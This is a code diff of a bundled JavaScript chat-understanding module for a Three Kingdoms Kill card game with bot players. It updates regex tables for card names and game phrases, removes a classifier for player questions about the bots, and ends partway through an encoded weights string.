 		line.text,
 		ctx,
@@ -27482,43 +27513,49 @@ const DETECTING = [
 
 // src/chatter/moves/cards.ts
 const ROWS3 = [
-	["sha", "杀|slash|strike"],
-	["shan", "闪(?!电)|dodge"],
-	["tao", "桃子?(?!园)|peach(?:es|ed|ing)?(?! garden)"],
-	["jiu", "酒(?!杀)|wine|analeptic"],
-	["guohe", "过河拆桥|过河|拆桥|过拆|(?<=[张把手])拆|dismantle(?:ment)?"],
-	["shunshou", "顺手牵羊|顺手(?=[,.!?了]|$|我|你|他|她|主|[一二三四五六七八九\\d])|(?<=张)顺|snatch"],
+	["sha", "杀|slash|strike|sha"],
+	["shan", "闪(?!电)|dodge|shan"],
+	["tao", "桃子?(?!园)|(?<![a-z])tao(?:zi)?(?![a-z])|peach(?:es|ed|ing)?(?! garden)"],
+	["jiu", "酒(?!杀)|(?<![a-z])jiu(?![a-z])|wine|analeptic"],
+	["guohe", "过河拆桥|过河|拆桥|过拆|(?<=[张把手])拆|(?<![a-z])guohe(?![a-z])|dismantle(?:ment)?"],
+	[
+		"shunshou",
+		"顺手牵羊|顺手(?=[,.!?了]|$|我|你|他|她|主|[一二三四五六七八九\\d])|(?<=张)顺|(?<![a-z])shunshou(?![a-z])|snatch"
+	],
 	["wuxie", "无懈可击|无懈|nullification|wuxie|null(?:ify)?(?= card)|negat(?:e|ion)(?= card)|counter(?= card)"],
-	["juedou", "决斗|duel"],
+	["juedou", "决斗|duel|juedou"],
 	["nanman", "南蛮入侵|南蛮|nanman|barbarians?|savages?"],
-	["wanjian", "万箭齐发|万箭|箭雨|wanjian|arrow(?:s| barrage)?|volley"],
-	["taoyuan", "桃园结义|桃园|peach (?:garden|orchard)|the oath"],
-	["wugu", "五谷丰登|五谷|harvest|amazing grace|grain"],
-	["wuzhong", "无中生有|无中|ex nihilo"],
+	["wanjian", "万箭齐发|万箭|箭雨|wanjian|arrow(?:s| barrage)?|barrages?|volley"],
+	["taoyuan", "桃园结义|桃园|taoyuan|peach (?:garden|orchard)|the oath"],
+	["wugu", "五谷丰登|五谷|wugu|harvest|amazing grace|grain"],
+	["wuzhong", "无中生有|无中|wuzhong|ex nihilo"],
 	[
 		"lebu",
-		"乐不思蜀|乐不|(?<=[张个]|[贴上]的|[吃中]了?)乐|贴乐|上乐|把乐|乐贴|indulgence|contentment|acedia|happy card|the happy"
+		"乐不思蜀|乐不|(?<=[的那])乐(?![趣子意观于])|(?<=[张个]|[贴上]的|[吃中]了?)乐|贴乐|上乐|把乐|乐贴|(?<![a-z])lebu(?![a-z])|indulgence|contentment|acedia|happy card|the happy"
 	],
-	["bingliang", "(?<=[张个]|[贴上]的|[吃中]了?)兵|兵粮寸断|兵粮|断粮|贴兵|suppl(?:y shortage|ies)|famine|rations"],
-	["shandian", "闪电|lightning"],
-	["jiedao", "借刀杀人|借刀|borrowed (?:sword|knife)|collateral"],
-	["huogong", "火攻|fire attack"],
-	["tiesuo", "铁索连环|铁索|铁锁|铁链|连环|iron chain|chains?(?!ed)"],
+	[
+		"bingliang",
+		"(?<=[张个]|[贴上]的|[吃中]了?)兵|兵粮寸断|兵粮|断粮|贴兵|(?<![a-z])bingliang(?![a-z])|suppl(?:y shortage|ies)|famine|rations"
+	],
+	["shandian", "闪电|lightning|shandian"],
+	["jiedao", "借刀杀人|借刀|(?<![a-z])jiedao(?![a-z])|borrowed (?:sword|knife)|collateral"],
+	["huogong", "火攻|fire attack|huogong"],
+	["tiesuo", "铁索连环|铁索|铁锁|铁链|连环|(?<![a-z])tiesuo(?![a-z])|iron chain|chains?(?!ed)"],
 	["zhuge", "诸葛连弩|连弩|crossbow"],
 	["bagua", "八卦阵?|eight trigrams|bagua"],
 	["renwang", "仁王盾?|renwang|nio shield"],
-	["tengjia", "藤甲|vine armou?r|rattan"],
-	["baiyin", "白银狮子|白银|silver lion"],
+	["tengjia", "藤甲|(?<![a-z])tengjia(?![a-z])|vine armou?r|rattan"],
+	["baiyin", "白银狮子|白银|silver lion|baiyin"],
 	["qinggang", "青釭剑?|qinggang"],
-	["qinglong", "青龙偃月刀|青龙刀?|偃月刀|green dragon"],
-	["zhangba", "丈八蛇矛|丈八|serpent spear"],
-	["guanshi", "贯石斧|贯石|rock axe"],
-	["fangtian", "方天画戟|方天|halberd"],
-	["qilin", "麒麟弓|麒麟|kirin bow"],
-	["cixiong", "雌雄双股剑|雌雄剑?|twin swords"],
-	["hanbing", "寒冰剑|寒冰|ice sword"],
-	["guding", "古锭刀|古锭|ancient blade"],
-	["zhuque", "朱雀羽扇|朱雀|fan of"],
+	["qinglong", "青龙偃月刀|青龙刀?|偃月刀|green dragon|qinglong"],
+	["zhangba", "丈八蛇矛|丈八|serpent spear|zhangba"],
+	["guanshi", "贯石斧|贯石|rock axe|guanshi"],
+	["fangtian", "方天画戟|方天|halberd|fangtian"],
+	["qilin", "麒麟弓|麒麟|kirin bow|qilin"],
+	["cixiong", "雌雄双股剑|雌雄剑?|twin swords|cixiong"],
+	["hanbing", "寒冰剑|寒冰|ice sword|hanbing"],
+	["guding", "古锭刀|古锭|ancient blade|guding"],
+	["zhuque", "朱雀羽扇|朱雀|fan of|zhuque"],
 	["chitu", "赤兔"],
 	["dawan", "大宛"],
 	["zixin", "紫骍|紫辛"],
@@ -27669,7 +27706,7 @@ const SOURCES = [
 	],
 	[
 		"lord",
-		"(?<![㐀-鿿])大王|(?<=[那谢打杀砍救保给帮对跟啊呀吧呢了,.!?])大王|陛下|皇上|圣上|your majesty|my (?:liege|king)(?![a-z])|主公|主帅|老大|(?<![我被的])老板(?!娘|骂|叫|让|今天|说我|给我|扣|又|昨)|(?<![a-z])(?:the |my |our )?lord(?![a-z])|(?<![a-z])the (?:king|emperor)(?![a-z])|(?<![a-z])(?<!(?:my|a|big) )boss(?![a-z]|es| (?:is |was |keeps )?(?:call|yell|scream|text|email|wants me|made me|says i))|(?<=[打杀砍救保护帮奶集火拆顺信跟])主(?![动要力意])"
+		"(?<![㐀-鿿])大王|(?<=[那谢打杀砍救保给帮对跟啊呀吧呢了,.!?])大王|陛下|皇上|圣上|your majesty|my (?:liege|king)(?![a-z])|主公|主帅|老大|(?<![我被的])老板(?!娘|骂|叫|让|今天|说我|给我|扣|又|昨)|(?<![a-z])(?:the |my |our )?lord(?![a-z])|(?<![a-z])(?:the (?:king|emperor|zhu)|zhugong)(?![a-z])|(?<![a-z])(?<!(?:my|a|big) )boss(?![a-z]|es| (?:is |was |keeps )?(?:call|yell|scream|text|email|wants me|made me|says i))|(?<=[打杀砍救保护帮奶集火拆顺信跟])主(?![动要力意])"
 	],
 	[
 		"self",
@@ -27852,7 +27889,7 @@ function isPast(clause, { start, end, when }, { dies, passive, caused, ordered }
 const ROWS4 = [
 	{
 		verb: "kill",
-		zh: "[杀砍打弄捅射毒劈电烧炸]死(?!我[也都])|宰(?!相|人)(?:了|掉)?|干掉|杀掉|击杀|斩了|斩杀|收掉|收了(?=[^,]{0,4}(?:人头|命))|收了?人头|拿(?:了|下|走|到)?(?:了|个)?人头|(?<=人头.{0,8})(?:拿(?:了|下|走)?|收(?:了|走)?|抢(?:了|走)?)(?=的|了|$|[,.!?])|收(?:下|走)?了?(?=的?(?:人)?头)|(?:砍|拿|收|摘)(?:了|走|下)?(?=的(?:人)?头)|抡死|弄死|收(?=的$|的[,.!?]|了$|了[,.!?]|掉?(?:他|她|主公|[一二三四五六七八九\\d]号))|补(?:刀|死|掉|得)|做掉|办了|弄没了|(?:宰|斩)(?:掉)?了(?=$|[,.!?])|宰|带走了?|宰(?=的|了)|做了(?=$|[,.!?])|秒了|秒掉|秒杀|送走|灭了|杀害|拿下|噶(?:了|掉)",
+		zh: "[杀砍打弄捅射毒劈电烧炸]死(?!我[也都])|宰(?!相|人)(?:了|掉)?|干掉|杀掉|击杀|斩了|斩杀|收掉|收了(?=[^,]{0,4}(?:人头|命))|收了?人头|拿(?:了|下|走|到)?(?:了|个)?人头|(?<=人头.{0,8})(?:拿(?:了|下|走)?|收(?:了|走)?|抢(?:了|走)?)(?=的|了|$|[,.!?])|收(?:下|走)?了?(?=的?(?:人)?头)|(?:砍|拿|收|摘)(?:了|走|下)?(?=的(?:人)?头)|抡死|弄死|收(?=的吧?(?:$|[\\s,.!?])|了$|了[,.!?]|掉?(?:他|她|主公|[一二三四五六七八九\\d]号))|补(?:刀|死|掉|得)|做掉|办了|弄没了|(?:宰|斩)(?:掉)?了(?=$|[,.!?])|宰|带走了?|宰(?=的|了)|做了(?=$|[,.!?])|秒了|秒掉|秒杀|送走|灭了|杀害|拿下|噶(?:了|掉)",
 		en: "kill(?:ed|s|ing)?|dropped (?=(?:a|the|that|one)? ?(?:reb|rebel|traitor|spy|loyal|\\d|seat))|(?<='s )(?:head|kill) was|got the kill on|slain|slew|finish(?:ed|ing)(?: off)?|finish off|took out|murder(?:ed)?"
 	},
 	{
@@ -27914,7 +27951,7 @@ const ROWS4 = [
 	{
 		verb: "heal",
 		zh: "回血|回了?[一二两三几\\d]?(?:点|滴|口)?血|加血|奶(?:了|过)?(?:一)?口?(?=我|你|他|她|主|[一二三四五六七八九十\\d])|喂(?=了?(?:我|你|他|她|主|[一二三四五六七八九十\\d]|桃))|喂(?=的|了)|奶(?=的)|(?<=桃.{0,8})(?:掏|出|吃|给)(?=的)|[吃喝磕嗑啃](?:的|了|过)?(?:[一二三四五两俩几\\d]*[个口颗张]?)桃|掏(?:了|出)?(?:[一二三两几\\d]*[个口颗])?桃|回(?:了|过)?[一二两三几]口|续(?:了)?[一二两三]?(?:口|点|滴)?(?:血|命)|(?<=给.{1,6})续(?:了|上)|抬(?:了|过)?(?:一手|一口|一下)?(?=我|你|他|她|主|[一二三四五六七八九\\d]|\\p{Script=Han}{2})|捞(?:了|过)?(?=我|你|他|她|主)|扶(?:起来|了?起|回来)|(?<=把.{1,6})拉(?:起来|回来)",
-		en: "heal(?:ed|s|ing)?|(?:ate|eats|eating|had)(?= (?:(?:an?|one|two|three|\\d|his|her|their|another|all)(?: the| his| more)? )?peach)|patched (?=.{1,16} ?up)|topped (?=.{1,16} ?up)"
+		en: "heal(?:ed|s|ing)?|(?:ate|eats|eating|had)(?= (?:(?:an?|one|two|three|\\d|his|her|their|another|all)(?: the| his| more)? )?peach)|(?:spent|wasted|burned)(?= (?:an?|his|her|their|the|one|my|your) (?:\\w+ )?(?:peach|tao))|patched (?=.{1,16} ?up)|topped (?=.{1,16} ?up)"
 	},
 	{ verb: "heal", card: "tao", en: "peach(?:ed|ing)" },
 	{
@@ -28744,113 +28781,6 @@ function* tryMatters(text) {
 }
 const topicOfMatter = (matter) => MATTERS.find((row) => row.matter === matter)?.topic ?? null;
 
-// src/chatter/moves/life/self.ts
-const AI2 = "(?:ai|人工智能|机器人?|人机|电脑|程序|bot|npc|脚本)";
-const CLASSES2 = [
-	[
-		"clock",
-		/(?:现在|这会儿?|此刻)?(?:是)?几点(?:了|钟)(?!能|打完|结束|睡)|(?:有表|有钟).{0,4}(?:报|看)|今天(?:星期|周|礼拜|几月|几号)几?(?:啊|了|\?|$)|今天是?(?:星期几|周几|礼拜几|几号|几月)|\b(?:what(?:'s| is)? (?:the )?time(?: is it)?|what time is it|got the time|what day is (?:it|today))\b/
-	],
-	[
-		"maker",
-		/(?:谁把你们?|被(?:谁|哪).{0,4})(?:做|造|写|编|弄)|(?:谁|什么人|哪(?:个|家)(?:公司|人|大神|团队)?)(?:给)?(?:做|造|写|开发|训练|创造|设计|编|弄)(?:的|了|出)?(?:来)?(?:你|这(?:个)?(?:ai|机器人|游戏|扩展|插件))|(?:做|造|写|开发|创造|设计)(?:你们?|这.{0,4}(?:ai|扩展|插件))的(?:人|是|公司|作者)|你们?(?:是)?(?:谁|哪家|哪个公司)(?:做|造|写|开发|出品)的|你们?的?(?:作者|开发者|爹|主人|创造者)是?(?:谁|哪)|\bwho(?:'s| is| has)? ?(?:made|built|created|programmed|coded|wrote|trained|develop(?:ed|s)|designed|behind) (?:you|u|ya|this|these)\b|\bwho(?:'s| is) your (?:maker|creator|dev\w*|author)\b/
-	],
-	[
-		"model",
-		/(?:大|语言|什么|啥|哪个|哪家(?:的)?)模型|\b(?:chat ?gpt|gpt|deep ?seek|claude|gemini|llama|copilot|openai|llm)\b|豆包|文心|通义|千问|kimi|元宝|你们?(?:叫什么|叫啥|什么名字|名字(?:是|叫)(?:什么|啥))|\b(?:(?:what|which) (?:ai |language )?model|language model|what(?:'s| is| are) your names?|what (?:are you )?running on|what ai are you)\b/
-	],
-	[
-		"cheat",
-		/(?:偷看|会不会(?:偷)?看|看(?:得|不)?到|看得见|看见|知道|能看|会看|透视).{0,3}(?:我|我们|别人|大家|人家)?(?:的)?(?:手牌|底牌|牌|身份)(?:不|吗|么|没|吧|\?|啊|$)|(?:是不是|有没有|不会|别是|怕不是).{0,4}(?:开(?:了)?挂|作弊|透视|读(?:我)?(?:的)?指令|看牌)|(?:你|ai|你们?).{0,4}(?:开(?:了)?挂|作弊|外挂|透视)(?:了|吧|吗|呢|$)|(?:ai|机器人|电脑).{0,6}(?:串通|通气|商量|联手|私聊)|你们(?:几个)?(?:是不是|会不会|会|偷偷|背后).{0,4}(?:串通|通气|商量|私聊)|\b(?:(?:can|do|could) (?:you|u|ya|they|the (?:ai|bots?)) (?:guys )?(?:all )?(?:see|peek|look|know|read)(?: at| into)? (?:my|our|everyone'?s|other|all)(?: the)? (?:hand|cards?|role)|(?:are|r|do) (?:you|u|these|the) ?(?:guys |bots |ai )?cheat(?:ing)?|peek(?:ing)? at (?:my|our) (?:hand|cards)|(?:you|u|bots?) (?:cheat|cheating|hacking|hack)|wall ?hack|rigged)\b/
-	],
-	[
-		"memory",
-		/(?:还|会|能)(?:不)?(?:会|能)?(?:记得|记住|认得|认识)(?:我|这局|这些|咱)|记(?:得|不记得)(?:我|这局|上一?局)(?:吗|么|不|没|$)|(?:打完|散了|结束|下(?:一)?[把局次]|关了|退出).{0,8}(?:记得|记住|认得|认识|忘)|(?:你们?|ai).{0,4}(?:有|没有?)记忆|(?:上一?[局把]|昨天)的事.{0,4}(?:记得|记不记得)|\b(?:(?:does?|will|can|would) (?:you|u|ya|(?:the |an )?(?:ais?|bots?))(?: guys| all)? (?:even |still )?(?:actually )?(?:remember|recall|recognize) (?:me|us|our|anything|this|any of|things|stuff|past|last|previous|what)|(?:have|got) (?:any )?memory|forget (?:me|us|everything))\b/
-	],
-	[
-		"lies",
-		/(?:ai|机器人|电脑|人机|你们?ai).{0,4}(?:也)?(?:会|能)(?:不会)?.{0,4}(?:撒谎|骗|说谎|演|诈)|\b(?:can|do|could) (?:even )?(?:ais?|bots?|machines?) (?:even )?(?:lie|bluff|cheat at)|\b(?:bots?|ais?) can (?:lie|bluff)/
-	],
-	[
-		"thinks",
-		/你(?:真的|到底)?会(?:不会)?思考|(?:你们|ai|机器人|电脑).{0,4}(?:怎么|咋|如何|[靠凭]什么|根据什么).{0,2}(?:决定|选|判断|挑|想|算)|(?:自己想的|靠算).{0,4}还是.{0,4}(?:程序|写死|蒙|脚本|台词)|写死的(?:台词|话)|你(?:打牌)?(?:的)?(?:脑子|brain)?是?(?:谁教|怎么学|咋学)|(?:谁|怎么)教(?:会)?(?:的)?你(?:打牌|玩)|你玩(?:这个|三国杀|这)?(?:多久|几年|好久)了|\b(?:can (?:you|u) (?:actually |really )?think(?: or|\?|$)|(?<!what |how |who |why )do (?:you|u) (?:actually|really) think(?: or|\?|$)|how(?:'d| did| do) (?:you|u) (?:learn|know how) to play|how long have (?:you|u) (?:been )?play\w*|how (?:do|does|would) (?:you (?:guys|all)|y'?all|(?:an |the )?(?:ais?|bots?))(?: \w+)? (?:decide|choose|pick|know|think|work)|is it scripted|being a program)\b/
-	],
-	[
-		"feelings",
-		/你们?(?:ai)?(?:们)?(?:输了?|赢了?|被[打杀砍骂]|挨[打骂]|死了)(?:会|能)?(?:不会)?(?:也)?(?:难受|难过|开心|高兴|疼|痛|生气|伤心)|(?:你们?|ai|人工智能|机器人|电脑).{0,4}(?:有(?:没有)?(?:感情|感觉|情绪|意识|灵魂|心)|会(?:不会)?(?:难过|伤心|疼|痛|累|生气|害怕|高兴|孤独|无聊|做梦)|怕死吗|懂(?:感情|爱|难过)|(?:也)?会(?:哭|笑|爱)吗|.{0,6}[累困烦腻疼饿](?:不|吗|么|嘛|\?)|会.{0,6}[累困烦腻疼饿])|(?:死|输|挨打)(?:了)?你(?:们)?(?:会)?(?:疼|难过|怕)(?:吗|不)|\b(?:(?:u|you) got feelings|(?:do|can|does) (?:you|u|ya|bots|(?:an )?ais?)(?: guys| all| like (?:you|u))? (?:even |ever |actually |really )*(?:have (?:any )?(?:feelings|emotions|a soul|consciousness)|feel (?:anything|pain|sad|things|emotions?)|get (?:sad|tired|angry|bored|lonely)|dream|cry|love|care)|(?:are|r) (?:you|u) (?:conscious|sentient|self[- ]aware)|just code|does it hurt (?:you|u|when))\b/
-	],
-	[
-		"bot",
-		new RegExp(
-			`(?:都是|全是|一屋子|一桌子?|满桌)(?:的|都是)?(?:活人|真人|${AI2})|有(?:没有)?(?:真人|${AI2})(?:吗|么|没|在)|你们?(?:几个|几位|这些|这帮|该)?(?:到底|究竟|真的?|该不会|不会|难道|其实|全|都|别)*(?:是|算)(?:不是)?(?:个|一个|一帮|真的?|一群)?(?:${AI2}|真人|活人|人类|大活人|人(?:吗|么|还是|\\?|吧|$))|(?:是|和|跟)(?:真人|${AI2})(?:在)?(?:玩|说|聊|打)|(?:真人|人类?)还是(?:${AI2})|${AI2}还是(?:真?人)|(?:谁|哪(?:个|几个))是(?:真人|活人|${AI2})|\\b(?:(?:are|r) (?:you|u|ya|these|they)(?: guys| all)? (?:all |an? |really |even |actually |just |like )*(?:ai|ais|bots?|robots?|human|humans|real(?: people| person)?|person|people|machine|program|npcs?|computer)|(?:any|some|all|none|most) of (?:you|u|ya)(?: guys)?(?: \\w+){0,2} (?:human|humans|real|people|bots?|ai)|(?:is|are) (?:there|this|everyone|everybody|anyone)(?: here| else)? (?:an? |all |any )*(?:bots?|ai|humans?|real)|(?:you|u) (?:a |an )?(?:bot|robot|ai)\\?|(?:human|humans|people) or (?:bots?|ai|robots?|machines?)|(?:bots?|ai) or (?:humans?|real|people)|(?:am i|is it) (?:the )?(?:only|playing) .{0,12}(?:human|bots?)|(?:talking to|playing (?:with|against)) (?:an? )?(?:machine|bot|ai|robot|real|human)s?|(?:know|that) you'?re an ai|any humans|same (?:bots?|ais?) every|u all bots|beep boop)\\b`
-		)
-	],
-	[
-		"person",
-		/你们?(?:今年|家|都|是)*(?:几岁|多大(?!仇)(?:了|啦|$|\?)|住哪|哪里人|哪儿人|家在哪)|你(?:是)?(?:男|女)的(?:还是|吗|\?|$)|男的女的|你(?:是)?(?:男|女)生|你(?:有|找)(?:没有?)?(?:女朋友|男朋友|对象|老婆)|你(?:吃|睡|喝)(?:饭|觉|水)?(?:吗|么)|你们?ai(?:也)?(?:吃|睡|喝)|\b(?:how old are (?:you|u)|where (?:are|do) (?:you|u)(?: all| guys)? (?:all )?(?:from|live|come from)|(?:are|r) (?:you|u) (?:a )?(?:guy|girl|boy|male|female|man|woman)\b(?! at)|do (?:you|u) (?:even )?(?:eat|sleep|drink))\b/
-	],
-	[
-		"well",
-		/你(?:最近|今天)?(?:过得(?:怎么样|如何|好吗)|开心吗|高兴吗|无聊吗)|\b(?:how(?:'s| is) it going(?:$|[?.!])|how are (?:you|u|ya|y'?all)(?: guys| all)?(?: (?:doing|today))?(?:$|[?.!]| (?:guys|everyone|today))|how do (?:you|u) feel(?: today)?(?:$|[?.!])|(?:are|r) (?:you|u) (?:bored|happy)\?)/
-	],
-	["doing", /^你(?:在)?(?:想|干)(?:什么|啥|嘛)(?:呢)?$/]
-];
-const ABUSE = /脑子|你妈|尼玛|废物|垃圾|智障|弱智|傻|蠢|强奸|[割砍捅]死|弄死你|去死|\b(?:your|ur|yo) (?:mom|mum|mother|momma)\b|\b(?:idiot|stupid|dumb|trash|garbage|moron|useless|rape\w*|tortur\w*|stab\w*|kill (?:you|ur|your))\b/;
-const OWN_END = /我(?:要是|如果|万一|明天|今晚|以后)?.{0,4}(?:死了?|不在了?|没了|走了|自杀|离开(?:人世|世界))|\bi(?:'?m| am| die|'?ll be| will be| was)\b.{0,8}\b(?:dead|gone|dying|die)\b|\bif i (?:die|died|disappear\w*)\b|\bmy (?:last|final) (?:night|day|game|words)\b/;
-const MISSED2 = /我(?:要是|如果|万一|哪天|真的?)*(?:死|不在|没|消失)了?(?:的话)?[^会能]{0,4}(?:你们?|有人)(?:会不会|会|能)(?:难过|伤心|哭|想我|想念|记得|在乎|舍不得|心疼)|\b(?:would|will|do) (?:you|u|any(?:one|body)|any of you)(?: guys| even| really)* (?:miss me|be sad|cry|care|mind|remember me|notice) (?:if|when) i(?:'?m| am| was| were)? ?(?:die|died|dead|gone|not here|disappear\w*)|\bif i (?:die|died|was dead|were dead|was gone|disappear\w*),? (?:would|will) (?:you|u|any(?:one|body)) (?:\w+ )?(?:miss|be sad|cry|care|mind|remember|notice)/;
-function selfIn(text) {
-	if (ABUSE.test(text)) return null;
-	if (MISSED2.test(text)) return "missed";
-	if (OWN_END.test(text)) return null;
-	return CLASSES2.find(([, words]) => words.test(text))?.[0] ?? null;
-}
-
-// src/chatter/moves/wording-weights.ts
-const UNIT3 = 0.5;
-const BIAS5 = [-1, -1.5, -1.5, -1.5, -1.5, -1.5, -1.5, -1, -1.5, -1.5, -0.5, 0, -1.5, -1, -1.5, -1, -0.5, -1, -2, -2, -1, -0.5, -0.5, -1, -1, -1, -1.5, -1.5, -0.5, -1, -1, -1.5, -1, -1];
-const WEIGHTS6 = "#JIU`{[R&3LI9XU?WT,_g~e{i|psW+0Y2PpvNg7pGpMBf,tE6+r{Rd7-RQc1RvRKs[i=5be}5r&$l;fbqRW,k[G@7:H6]X8=LRCh$<cC>MuLIrNxUb4<jq'nTXsGb{,~%fm3G)r98}PPBi&Y]mnf9AQux31$Rk$W:hM+fx=v9es'zE(@GqW-q4/.AO6cG4=v#$r:fmsDsT*y9:#t~UH{pka$|M3X_8p1'S'%w.dxcLLvjIN8tiyEpFh@EU>LIP*7xK8oth[Pws<~Q9T]6aD^4(`f0+g]{f#sLhYuFOb^zdRPBzo-E<j.dvUcJ+5iNK<NuqBGBp,1IBpU])w/*NJK#?@mJc}Y4+F~wR+eAG9Zx(y^tfJ)aah/meQ5:u/u32i8]W1,mV2y:Yf;D&9OPATMZ&]a)`(_5Z?NNVN<aq[_0S;DZ]KGzht:s|kO$[S6scS=P*eu]`oA$p_PR];z4dpy.p+[eW`S`nyN<>Vr[Kv<>,)zm1S]DOCm`zMn)B'VWF3#+&_0Hha~IV0VK4M.4-6x^myj73,QnIrS~+EQ8*T[Bb'A%txzu*I]>Dw`yFFJ?K]t8Sx4iLh)j8(ya$'Lo;i<O$[n4M6[T:W&nf`Oj7ADG^4l=tWp_tsF+D,gA6KWlcCC%:s*{oNo|)2?,~asByb.M|%-vg,96}wS&GKHwm:]HtHhz*E|A;6CR'f&4*wcE0UyX.{fi<~d<5itr;BI<')B|IkbH?{~&u|'6v,$i,8-&AY3Vldt|AAJG_s_I-d8P>ucZL`z0|248=uK7q;MpD;9ONm{ZBg:|UXU)+u:7is]O&6)~UP[z]Nxq}gVVFB9&|<ZmmvEgmMmT^)2[E)[=oTB0WXE|iaQLWwX)k6BJ_BTqK#At*eU+q[y2#T`6%|Z<~[=)un0ja;[;>:hr2a130Tg]]})C3},m[{o2CZ-xoNjHrU2mW7iPb*0LSX_OSJcH?cW}LN4;h;-HX-x:G1xEj5^FBjB`u:>jiZ7-/&8|`H:Bg~vJ:yM=Ps_{LEuARg>ee^M){NYqHY.C2gQ$AulbDB;E{zP>qn`J0*f_;]%[Q$[]s8n$P-:T./Amj2$'%<bqhqs_sG%~X%jj1L;AZQKg*B4HVc?X{dRw@9uq{Ras~E`@jJ~&0t1@]1Y`9cJD^('+(4{R3}@UM}Bj*Jq8{8=KR*D`;TsotYdqJ20TrfZ1R{5=L'XZ%ndT#q:a_pF`R;6ae}i?|9l*@2`VxM0(.fz@oxN`LSK$%/JZ,PAeF<+?J)UQM(KKGd#(UQCvnw,agc5-vLN;L.qGSWs>14~'5,3x=#POsA9XJHb)q3U]lY]x)IFCCj3Hk{JfPY0t&2#MDDw-OmUOT'/jPG*Nl=O9MKRXcKMK%$+2oYm|Q<]^~LSc#=8'{:^HL>a&aSDa2lRY.,(X^Vw2BUBq,y/LSb3wy;yz=y,Z7(/_-wKbvYp+f=]&EEkfRCE00V@p#r~k0V<7Dp1$7c$A|zYN:gA1PG{Vnmz~?;BlBG8wT%K=lBd&?K(4X'GUEtJR.7jfZ]b*wPTI:mC0pJ1:6Fo0:2,:rK0os*vqc)k[34@<''u4,4~&mSJ8w>UEsxWd$NxdPa#VUq8k8n'W(6BF`FlJXW9LJ^273Q*5HL@h1rNjr50ERPacPWqarJpsy?]|*f<.j0(dG+1|'J)n,SR73#Hiw+1joMHcb-lI0{wSm9X5qrTZEzBQOr#_Tf9~Nf+l2|Bif`x/:u{}zTY6#s9MXyDNHsI*]`6L4lJw0xnqdQEhe?bE_iL([KvS_8F{;S_xe';h6,BX]LyAvCuGWG,$DzT=kn5`R-$ZFoFZn&FV%rnMh@CuJ]mvWdo3[2z(AzW/:/lSHmN-99BK~TO|WCj5<mm[$mv(@7>vFnb-Gw=1^[Lc`V$MO<rnLeA[tp+Wi;@J;(#+mprBDvU:~uhQ%Y+y/MlF,-P0weHjn-^_5SnrhW{]Ro/Y>L+?56(n.st?/;JU[#fshQ]82[HQD]fL7P`9`}At6k@h?'SDw7,Ef9&*'(mxTT43muL){d?hv=gQGhcZ<)Ry0q#[5tSO]O5JYj)6gS*W2YfL5WQ0&e*Xj(>W(C^t$Z@y:.D:(`%d<Dhol6s2OksIjLtmc>F5%^Vo8>,G=5w`zHssn{+|{|/d67P3OYX8@t=p:^?zO*Bj2~,RvT+5x_slUB>VXVjwhiPe't7s>/p:&%KDJdyTMdvc:Q_tt4$+kZd.^>obAEQ'X'F?.2uuk<e(IwaS9<h(j<AidHWG=uBDas*6vAr>'hIFJio`_d]Qgr~oT[[@pNm}$hS$lDE,p+vI~QC|im6n$pKa5L'90PI]%DV()%BjMb`ZN@}uljId}_h1RjKhB1(,>(k+`xWLma`&mlD4UWOks~#fp9KCyH0].`#yBeaPb}$N8/^U1@U};j~,WOD}|4AAA%><A>'fmj7u?(45UK-&hd6O,qm/XJ6@)7vtr^v3;ghQ'e~L/uA-DiUj82W3MUCG0i3Tn~6,+Lam84?**)jwNJZjsJ#00:aGFf?}U&vmrt,@4o1H;Ap]<yibn)4SJ/(Sd@O'r[&2?K<#BQm4N^yK?h[)TC{A_Mg~)@64'D1Rp]S3tM'NaycFp5nUeCzM#;-]W=a]R=)4S(8MDj(`nviqIgV:Q*azFQ]0$Q~u}Fv8a%;0ZA)JVHI$H*fCiKr,ro]LEQH'jNU{ab}+yL7F_Nw:0MkRjOrhPMTGaK}mF{EsSw`Tl/pZZkG:MCM.#'06E<o]6MgCx7/TXd'SweHy2)I?JA.Y}T.^;OhL-@*FW.r#XY{Q>V)`UoS)Kh^89s(M|#k.u6d(V:,/|#js|vZdrWM/-A'+y&uXY&AK:(9C1&Q(ET?Q)>?7%vd59:Idx[|$Pg0gtQbE=IPa[fjro70[`n<V66X<^ety<cQVLbYp>'zxy~'](((YrC9tm^L'cP>)@GHj2_neltW8_}.+6Xc}y^(ujgSP:4v)n.qG+s[opb;DX/nehf{/M0b_o&t@|G*()Le_:ygQIZ=jrD3@5DY6eoY3d6<Q*DcWcuTibCmn_hG&w~X@X.rQ~*u/'7*?`fdJ{NC&)QZed'BlVS{G2O{N4XZe$H^Y(cH+HPx@pjNLy`Y@:p<56xRx(k^.QB~aWPSd~|AN1IRq~|GvdQ]P_/Gvuh2x:d_TOnqp|G?Xoe.PTJ8jHM*BpMwKs8BAAT'Q:lOB0JHl|^|bGS;]ob)rE];KWhAW+>uCH53|SNw(6x6W3Y154}fdS0$C`%ecSO[GT.UaS+uY={l*({3mC74}j-q9.j6[i4vz1`?C~>9>ZZ.}LI`=xfSakpp7AB6Z2aL;+Kz7EMSMfPt~YED}$;aib$6g1Ap4^y)%J[ml*F-QLC]jpZpO9<WrHdJf=Kh73^N.G[ZGh`M[]y12ohR$b~&=0lpj[Ys#6$W0;LLmuDHf:{HR$Fk&z#iG@SRV>#R]q}zl,[YwdoMlNV~{>D1X[42[=4>X;oT7-{0^3(=.NwV@?uFb{Wj^Jkp_%L%@}.Fia)*%J(kWVioeDsB/$Z766w/<=re1ANR=G_+EsM[HCTHEi>l1C854oU#1VxIH__?;8=L/x,<=*#a<pP&_g9gZ2::=V(v{#^Up)vqFRrrW_{96(bpi}=t=`/&oa@&VLK=qP=H{@LbD*wpf~6=<?Ph2Oue|=-Ub*2NR9gV]797QG9BxxI9I$_v`*{eM]B.'kK;tq2Ls6r[YLG@m}Oe'[=}G4d^]7k8=*JnHDKt?g07W&v*)SCPZpzO#q*uPXb0l`.uPJDfU6ZvMOKY9InW1f[|dY<TTiZV%nrltQU_[TspX(VRD{aAbz(;LMdC.??G/eMMz:qI*F9PZ)vS7%Wb%q>}*=uwan{o28Pm?n3>.9PP}esgF7dt=3xHDNv_Y#SzT@MUUhrnjJ;UW^jKvLJM2#F|S]|yrn-W-kT<|8bUd(FSm$~]sY=T2fHI{fxW>%f%Ai:Sjxqk&y}2q{+Z/BCy#jkv7Ti0g1pmez|#mmq6/9/3~v+#^LWjOF:2qjC.lBll8PJ&,}b?va/3BR=^v2q[ht8Z.aqJ,M3A-3_s/8`h{Bb~'3SwHv#d_WE-=b=X,u]$z@D3`GUV/Ja7{It+G